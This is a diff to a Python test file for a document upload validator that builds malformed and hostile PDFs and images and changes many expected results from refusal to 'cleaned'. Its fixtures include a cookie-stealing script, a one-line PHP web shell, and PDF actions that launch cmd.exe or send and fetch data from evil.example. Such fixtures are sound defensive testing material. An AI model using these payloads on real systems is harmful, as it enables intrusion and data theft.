@@ -11,6 +11,7 @@ from pikepdf import Array, Dictionary, Name, String
 from tests.documents import files
 from tests.documents.files import EICAR, jpeg, pdf, picture, png, png_chunk, saved
 
+CLEANED = "cleaned"  # taken, and nothing of the harm comes along
 SCRIPT = b"<html><body onload=alert(1)><script>alert(document.cookie)</script></body></html>"
 PHP = b"<?php system($_GET['c']); ?>"
 PE = b"MZ\x90\0\x03\0\0\0" + b"\0" * 56 + b"This program cannot be run in DOS mode.\r\r\n$"
@@ -174,9 +175,9 @@ def protected(**passwords):
 
 
 def everything():
-    """(what, file name, how to make it, the code it is refused with)"""
+    """(what, file name, how to make it, the code it is refused with or CLEANED)"""
     unknown, wrong, broken = "document_type_unknown", "document_extension_wrong", "document_malformed"
-    active, foreign, infected = "document_active_content", "document_foreign_content", "document_infected"
+    foreign, infected = "document_foreign_content", "document_infected"
     complex_, large = "document_too_complex", "document_picture_too_large"
     flate = Array([Name.FlateDecode])
     return [
@@ -258,7 +259,7 @@ def everything():
         ("PDF of its beginning", "a.pdf", lambda: b"%PDF-1.7\n", broken),
         ("PDF of noise", "a.pdf", lambda: b"%PDF-1.7\n" + bytes(range(256)) * 20 + b"\n%%EOF", broken),
         ("PDF whose cross references point nowhere", "a.pdf",
-         lambda: pdf().replace(b"startxref\n", b"startxref\n9"), broken),
+         lambda: pdf().replace(b"startxref\n", b"startxref\n9"), CLEANED),
         ("PDF whose page tree goes round in circles", "a.pdf", lambda: page_tree_loop(), broken),
         # bombs
         ("JPEG header of 65,500 × 65,500", "a.jpg", lambda: jpeg_of(65_500, 65_500), large),
@@ -276,28 +277,28 @@ def everything():
         ("PDF without a page", "a.pdf", lambda: pdf(0), "document_page_count"),
         ("PDF that draws for hours", "a.pdf", lambda: endless_drawing(), complex_),
         # PDFs that do something
-        ("PDF that runs a script when opened", "a.pdf", lambda: action(S=Name.JavaScript, JS="app.alert(1)"), active),
-        ("PDF that prints when opened", "a.pdf", lambda: action(S=Name.Named, N=Name.Print), active),
-        ("PDF with a named script", "a.pdf", lambda: pdf(change=named_script), active),
+        ("PDF that runs a script when opened", "a.pdf", lambda: action(S=Name.JavaScript, JS="app.alert(1)"), CLEANED),
+        ("PDF that prints when opened", "a.pdf", lambda: action(S=Name.Named, N=Name.Print), CLEANED),
+        ("PDF with a named script", "a.pdf", lambda: pdf(change=named_script), CLEANED),
         ("PDF with a script spelt in hexadecimal", "a.pdf",
-         lambda: link(S=Name("/JavaScriptXXXX"), F="x").replace(b"/JavaScriptXXXX", b"/J#61vaScri#70t"), active),
-        ("PDF that starts a program", "a.pdf", lambda: link(S=Name.Launch, F="cmd.exe"), active),
-        ("PDF that opens another file", "a.pdf", lambda: link(S=Name.GoToR, F="//evil.example/share/x.pdf"), active),
-        ("PDF that opens an embedded file", "a.pdf", lambda: link(S=Name.GoToE, T=Dictionary(R=Name.C)), active),
-        ("PDF that sends a form", "a.pdf", lambda: link(S=Name.SubmitForm, F="http://evil.example/"), active),
-        ("PDF that fetches form data", "a.pdf", lambda: link(S=Name.ImportData, F="\\\\evil.example\\x.fdf"), active),
-        ("PDF with a link to a script", "a.pdf", lambda: link(S=Name.URI, URI=" java\nscript:alert(1)"), active),
+         lambda: link(S=Name("/JavaScriptXXXX"), F="x").replace(b"/JavaScriptXXXX", b"/J#61vaScri#70t"), CLEANED),
+        ("PDF that starts a program", "a.pdf", lambda: link(S=Name.Launch, F="cmd.exe"), CLEANED),
+        ("PDF that opens another file", "a.pdf", lambda: link(S=Name.GoToR, F="//evil.example/share/x.pdf"), CLEANED),
+        ("PDF that opens an embedded file", "a.pdf", lambda: link(S=Name.GoToE, T=Dictionary(R=Name.C)), CLEANED),
+        ("PDF that sends a form", "a.pdf", lambda: link(S=Name.SubmitForm, F="http://evil.example/"), CLEANED),
+        ("PDF that fetches form data", "a.pdf", lambda: link(S=Name.ImportData, F="\\\\evil.example\\x.fdf"), CLEANED),
+        ("PDF with a link to a script", "a.pdf", lambda: link(S=Name.URI, URI=" java\nscript:alert(1)"), CLEANED),
         ("PDF with a player", "a.pdf",
-         lambda: annotation(Subtype=Name.RichMedia, RichMediaContent=Dictionary()), active),
-        ("PDF with an attachment", "a.pdf", lambda: pdf(change=attachment), active),
-        ("PDF with an XFA form", "a.pdf", lambda: pdf(change=xfa), active),
-        ("PDF with actions of a page", "a.pdf", lambda: pdf(change=page_action), active),
+         lambda: annotation(Subtype=Name.RichMedia, RichMediaContent=Dictionary()), CLEANED),
+        ("PDF with an attachment", "a.pdf", lambda: pdf(change=attachment), CLEANED),
+        ("PDF with an XFA form", "a.pdf", lambda: pdf(change=xfa), CLEANED),
+        ("PDF with actions of a page", "a.pdf", lambda: pdf(change=page_action), CLEANED),
         # PDFs with company
         ("PDF and archive", "a.pdf", lambda: pdf() + archive(), foreign),
         ("PDF and archive that ends like a PDF", "a.pdf", lambda: pdf() + archive(comment=b"\n%%EOF\n"), foreign),
         ("PDF with an archive inside its last object", "a.pdf",
          lambda: content(archive(content=b"x" * 40), filter=Name.DCTDecode), foreign),
-        ("PDF and something that nobody knows", "a.pdf", lambda: pdf() + b"\x01\x02 surplus", foreign),
+        ("PDF and something that nobody knows", "a.pdf", lambda: pdf() + b"\x01\x02 surplus", CLEANED),
         ("PDF and HTML", "a.pdf", lambda: pdf() + SCRIPT, foreign),
         ("PDF with HTML before its first object", "a.pdf",
          lambda: before_first_object(pdf(), b"%" + SCRIPT + b"\n"), foreign),
@@ -305,5 +306,5 @@ def everything():
          lambda: pdf().replace(b"endobj\n", b"endobj\n%" + PHP + b"\n", 1), foreign),
         # locked ones
         ("PDF with a password", "a.pdf", lambda: protected(user="secret", owner="secret"), "document_encrypted"),
-        ("PDF protected against printing", "a.pdf", lambda: protected(user="", owner="secret"), "document_encrypted"),
+        ("PDF protected against printing", "a.pdf", lambda: protected(user="", owner="secret"), CLEANED),
     ]
